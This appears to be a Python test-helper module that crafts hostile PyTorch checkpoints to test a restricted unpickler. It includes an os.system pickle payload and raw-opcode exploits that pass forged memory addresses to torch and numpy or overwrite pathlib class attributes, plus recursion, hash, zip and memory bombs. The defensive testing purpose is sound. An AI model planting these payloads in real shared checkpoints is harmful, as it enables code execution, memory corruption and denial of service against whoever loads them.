"""A hostile checkpoint, as someone with write access to a shared checkpoint dir would make one: a real
checkpoint with one pickled object swapped for one that reduces to ``os.system``, and a census of the globals
a checkpoint's pickles name (``pickletools``, nothing unpickled)."""

from __future__ import annotations

import io
import os
import pickle
import pickletools
import struct
import zipfile
from pathlib import Path

STRINGS = {"SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "UNICODE", "SHORT_BINSTRING", "BINSTRING", "STRING"}


class Payload:
    """Reduces to ``os.system(command)``: unpickling it runs the command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def touching(marker: Path) -> Payload:
    return Payload(f"touch {marker}")


def torch_bytes(obj) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def plant(iter_dir: Path, key: str, obj) -> Path:
    """Swap the object stored under ``key`` for ``obj``: appended to its shard, ``.metadata`` pointed at it (written
    with plain pickle, as torch writes it). Returns the shard."""
    return plant_bytes(iter_dir, key, torch_bytes(obj))


def globals_of(data: bytes) -> set[tuple[str, str]]:
    """Every (module, name) a pickle names (GLOBAL, INST, STACK_GLOBAL over literal or memoised strings)."""
    found: set[tuple[str, str]] = set()
    stack: list[str | None] = []
    memo: dict[int, str | None] = {}
    for op, arg, _ in pickletools.genops(data):
        if op.name in STRINGS:
            stack.append(arg)
        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
            stack.append(memo.get(arg))
        elif op.name == "MEMOIZE":
            memo[len(memo)] = stack[-1] if stack else None
        elif op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
            memo[arg] = stack[-1] if stack else None
        elif op.name in ("GLOBAL", "INST"):
            module, name = arg.split(" ", 1)
            found.add((module, name))
            stack.append(None)
        elif op.name == "STACK_GLOBAL":
            module, name = stack[-2], stack[-1]
            assert module is not None and name is not None, "a global named by a computed string"
            found.add((module, name))
            stack.append(None)
        else:
            stack.append(None)
    return found


def _pickle_of(raw: bytes) -> bytes:
    if raw[:2] != b"PK":
        return raw
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return z.read(next(n for n in z.namelist() if n.endswith("data.pkl")))


def opcodes_of(data: bytes) -> set[str]:
    """Every opcode a pickle uses (pickletools, nothing unpickled)."""
    return {op.name for op, _, _ in pickletools.genops(data)}


def census(iter_dir: Path) -> dict[str, set]:
    """What one torch_dist checkpoint dir's pickles hold, nothing unpickled: the globals ("metadata", "objects":
    every pickled object — common state, rng_state, ... —, "tensors": every tensor item) and the opcodes
    ("metadata_ops", "objects_ops", "tensors_ops")."""
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata

    raw_meta = (iter_dir / ".metadata").read_bytes()
    meta = pickle.loads(raw_meta)  # the suite's own checkpoints
    found: dict[str, set] = {"metadata": globals_of(raw_meta), "metadata_ops": opcodes_of(raw_meta), "objects": set(),
                             "objects_ops": set(), "tensors": set(), "tensors_ops": set()}
    for index, info in meta.storage_data.items():
        kind = "objects" if isinstance(meta.state_dict_metadata[index.fqn], BytesStorageMetadata) else "tensors"
        with open(iter_dir / info.relative_path, "rb") as fh:
            fh.seek(info.offset)
            data = _pickle_of(fh.read(info.length))
        found[kind] |= globals_of(data)
        found[f"{kind}_ops"] |= opcodes_of(data)
    if (iter_dir / "common.pt").is_file():
        data = _pickle_of((iter_dir / "common.pt").read_bytes())
        found["objects"] |= globals_of(data)
        found["objects_ops"] |= opcodes_of(data)
    return found


def assert_admitted(found: dict[str, set]) -> None:
    """Every global and opcode of a census is one mtk's reader admits for its kind of file."""
    from mtk import checkpoint_unpickle as cu

    for kind, table in (("metadata", cu.METADATA_GLOBALS), ("objects", cu.CHECKPOINT_GLOBALS),
                        ("tensors", cu.TENSOR_GLOBALS)):
        for module, name in found[kind]:
            assert cu.admitted(module, name, table), (kind, module, name)
        assert found[f"{kind}_ops"] <= cu.ADMITTED_OPCODES, (kind, found[f"{kind}_ops"] - cu.ADMITTED_OPCODES)


# -- pickles pickle's own Pickler would never write: the opcodes themselves are the attack (issue 49) -------------
# Each helper spells one opcode of the pickle format (pickletools documents them); a payload is their concatenation.
PROTO4, STOP, MARK, TUPLE, EMPTY_DICT, SETITEMS = b"\x80\x04", b".", b"(", b"t", b"}", b"u"
NEWOBJ_EX, REDUCE, BUILD, NONE, NEWFALSE, NEWTRUE = b"\x92", b"R", b"b", b"N", b"\x89", b"\x88"


def op_global(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def op_str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def op_int(value: int) -> bytes:
    raw = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw  # LONG1: any int, an address included


def op_bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def op_tuple(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def op_dict(**items: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(op_str(k) + v for k, v in items.items()) + SETITEMS


ADDRESS = 0x4141414141410000  # where a file would point the process: unmapped, so the victim dies at once


def storage_with_kwargs() -> bytes:
    """``torch.UntypedStorage(8, allocator=ADDRESS)`` by NEWOBJ_EX: torch takes the int for a C++ allocator and calls
    its virtual ``allocate()`` (issue 49, 1). ``torch.UntypedStorage`` is an admitted storage class."""
    return (PROTO4 + op_global("torch", "UntypedStorage") + op_tuple(op_int(8)) + op_dict(allocator=op_int(ADDRESS))
            + NEWOBJ_EX + STOP)


def object_array_from_bytes() -> bytes:
    """An object dtype restored with its flags cleared (numpy then takes an array's raw bytes for it), an array of
    that dtype from 8 bytes of the file, iterated by ``torch.Size``: numpy reads ADDRESS as a ``PyObject*``
    (issue 49, 2). Every global in it was admitted by name."""
    dtype = (op_global("numpy", "dtype") + op_tuple(op_str("O"), NEWFALSE, NEWTRUE) + REDUCE
             + op_tuple(op_int(3), op_str("|"), NONE, NONE, NONE, op_int(-1), op_int(-1), op_int(0)) + BUILD)
    array = (op_global("numpy._core.multiarray", "_reconstruct")
             + op_tuple(op_global("numpy", "ndarray"), op_tuple(op_int(0)), op_bytes(b"b")) + REDUCE
             + op_tuple(op_int(1), op_tuple(op_int(1)), dtype, NEWFALSE, op_bytes(ADDRESS.to_bytes(8, "little")))
             + BUILD)
    return PROTO4 + op_global("torch", "Size") + op_tuple(array) + REDUCE + STOP


def class_attribute_set(module: str, name: str, attribute: str, value: str) -> bytes:
    """BUILD on the admitted class itself with the state ``(None, {attribute: value})``: pickle's BUILD runs
    ``setattr(cls, attribute, value)`` — ``pathlib.PosixPath._str`` makes every Path in the process that string
    (issue 49, 3)."""
    return (PROTO4 + op_global(module, name) + op_tuple(NONE, op_dict(**{attribute: op_str(value)})) + BUILD
            + STOP)


def torch_file(pickle_bytes: bytes) -> bytes:
    """A torch.save zip whose ``data.pkl`` is ``pickle_bytes`` (torch's own reader takes it as any other)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pickle_bytes)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
    return out.getvalue()


def plant_bytes(iter_dir: Path, key: str, data: bytes) -> Path:
    """Like :func:`plant`, with the object's stored bytes given as they are (a crafted torch file)."""
    with open(iter_dir / ".metadata", "rb") as fh:
        meta = pickle.load(fh)  # the test's own fixture, copied from the suite's checkpoints
    index = next(i for i in meta.storage_data if i.fqn == key)
    info = meta.storage_data[index]
    shard = iter_dir / info.relative_path
    offset = shard.stat().st_size
    with open(shard, "ab") as fh:
        fh.write(data)
    info.offset, info.length = offset, len(data)
    with open(iter_dir / ".metadata", "wb") as fh:
        pickle.dump(meta, fh)
    return shard


def point_shard(iter_dir: Path, key: str, relative_path: str) -> None:
    """Point the object stored under ``key`` at ``relative_path`` (in ``.metadata``, as torch writes it)."""
    with open(iter_dir / ".metadata", "rb") as fh:
        meta = pickle.load(fh)  # the test's own fixture, copied from the suite's checkpoints
    index = next(i for i in meta.storage_data if i.fqn == key)
    meta.storage_data[index].relative_path = relative_path
    with open(iter_dir / ".metadata", "wb") as fh:
        pickle.dump(meta, fh)


# -- files built to exhaust a reader rather than to run code (issue 49's review) ----------------------------------
EMPTY_TUPLE, TUPLE1, EMPTY_LIST, APPEND, APPENDS, MEMOIZE, SETITEM = b")", b"\x85", b"]", b"a", b"e", b"\x94", b"s"
NEWOBJ = b"\x81"


def op_get(slot: int) -> bytes:
    return b"h" + bytes([slot]) if slot < 256 else b"j" + struct.pack("<I", slot)  # BINGET, LONG_BINGET


def deep_key(depth: int) -> bytes:
    """A dict whose key is a tuple nested ``depth`` deep, one byte a level: ``hash`` recurses in C, and a million
    levels (1 MB) kill the process (SIGSEGV)."""
    return PROTO4 + EMPTY_DICT + EMPTY_TUPLE + TUPLE1 * depth + NONE + SETITEM + STOP


def deep_list(depth: int) -> bytes:
    """A list nested ``depth`` deep (a list in a list in ...): every walk of it recurses that deep."""
    return PROTO4 + EMPTY_LIST * depth + APPEND * (depth - 1) + STOP


def list_in_itself() -> bytes:
    """A list appended into itself: a cycle, which no walk of it ends."""
    return PROTO4 + EMPTY_LIST + MEMOIZE + op_get(0) + APPEND + STOP


def changed_after_use() -> bytes:
    """A list placed in a tuple, then (read back from the memo) appended to: what a check of the tuple saw is no
    longer what it holds."""
    return PROTO4 + EMPTY_LIST + MEMOIZE + TUPLE1 + op_get(0) + op_int(1) + APPEND + b"\x86" + STOP  # TUPLE2


def shared_tuple_key(width: int, levels: int) -> bytes:
    """A dict key that is a tuple of ``width`` copies of a tuple of ``width`` copies of ... ``levels`` deep: a few
    bytes a level, while hashing it costs width**levels."""
    built = op_str("x") + MEMOIZE  # memo slot 0; each level's tuple takes the next slot
    for level in range(levels):
        built = MARK + built + op_get(level) * (width - 1) + TUPLE + MEMOIZE
    return PROTO4 + EMPTY_DICT + built + NONE + SETITEM + STOP


def attribute_bomb(attributes: int, copies: int) -> bytes:
    """``copies`` argparse.Namespace objects each built with the same memoised state of ``attributes`` entries:
    seven bytes a copy, ``attributes`` slots each (gigabytes from a file of kilobytes)."""
    state = EMPTY_DICT + MEMOIZE + MARK + b"".join(op_str(f"a{i}") + NONE for i in range(attributes)) + SETITEMS
    first = op_global("argparse", "Namespace") + MEMOIZE + EMPTY_TUPLE + NEWOBJ + state + BUILD
    again = (op_get(0) + EMPTY_TUPLE + NEWOBJ + op_get(1) + BUILD) * (copies - 1)  # slot 0: the class, 1: the state
    return PROTO4 + EMPTY_LIST + MARK + first + again + APPENDS + STOP


def numpy_shape_bomb(dimensions: int) -> bytes:
    """A numpy array whose shape is ``dimensions`` memo references to one 2**62: multiplying it out is quadratic
    (a 320 KB file: a minute and a half of CPU)."""
    big = op_int(2**62) + MEMOIZE
    shape = MARK + big + op_get(0) * (dimensions - 1) + op_int(0) + TUPLE
    dtype = op_global("numpy", "dtype") + op_tuple(op_str("u1"), NEWFALSE, NEWTRUE) + REDUCE
    array = (op_global("numpy._core.multiarray", "_reconstruct")
             + op_tuple(op_global("numpy", "ndarray"), op_tuple(op_int(0)), op_bytes(b"b")) + REDUCE
             + op_tuple(op_int(1), shape, dtype, NEWFALSE, op_bytes(b"")) + BUILD)
    return PROTO4 + array + STOP


def compressed_torch_file(pickle_bytes: bytes, inflated: int) -> bytes:
    """A torch.save-shaped zip whose ``data.pkl`` is ``pickle_bytes`` then zeros to ``inflated`` bytes, deflated
    (torch never compresses; Python's zipfile inflates a member whole when asked to read it): a 1 GiB member in
    1 MB. The deflate stream repeats one independently coded block of 16 MiB of zeros (each ends in a full flush),
    so making it costs a checksum, not a compression, of ``inflated`` bytes."""
    import zlib

    zeros, name = bytes(1 << 24), b"archive/data.pkl"
    coder = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = coder.compress(pickle_bytes) + coder.flush(zlib.Z_FULL_FLUSH)
    block = coder.compress(zeros) + coder.flush(zlib.Z_FULL_FLUSH)
    blocks = -(-(inflated - len(pickle_bytes)) // len(zeros))
    stream = head + block * blocks + zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # the final, empty block
    crc = zlib.crc32(pickle_bytes)
    for _ in range(blocks):
        crc = zlib.crc32(zeros, crc)
    size = len(pickle_bytes) + blocks * len(zeros)
    sizes = struct.pack("<III", crc, len(stream), size)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0x21) + sizes + struct.pack("<HH", len(name), 0)
    central = (b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0x21) + sizes
               + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name)
    body = local + name + stream
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + end


def oversized_member(data: bytes, name: str, declared: int) -> bytes:
    """``data`` (a stored zip) with member ``name``'s sizes in its central directory entry rewritten to
    ``declared`` (the local header is left as it was)."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # each central directory entry: its sizes at bytes 20..28, its name at 46
        length = struct.unpack("<H", data[at + 28:at + 30])[0]
        if data[at + 46:at + 46 + length] == name.encode():
            return data[:at + 20] + struct.pack("<II", declared, declared) + data[at + 28:]
        at = data.find(b"PK\x01\x02", at + 4)
    raise KeyError(name)


def expanded_tensor(elements: int) -> bytes:
    """A torch.save'd uint8 tensor of ``elements`` elements over one byte of storage (stride 0): 1.5 KB that a
    ``.contiguous()`` turns into ``elements`` bytes."""
    import torch

    return torch_bytes(torch.zeros(1, dtype=torch.uint8).expand(elements))


def flipped_storage_byte(data: bytes) -> bytes:
    """A torch.save zip with one bit of its first storage's bytes flipped: its CRC no longer matches."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = next(i for i in z.infolist() if "/data/" in i.filename)
    local_extra = struct.unpack("<H", data[info.header_offset + 28:info.header_offset + 30])[0]
    start = info.header_offset + 30 + len(info.filename.encode()) + local_extra
    out = bytearray(data)
    out[start] ^= 1
    return bytes(out)
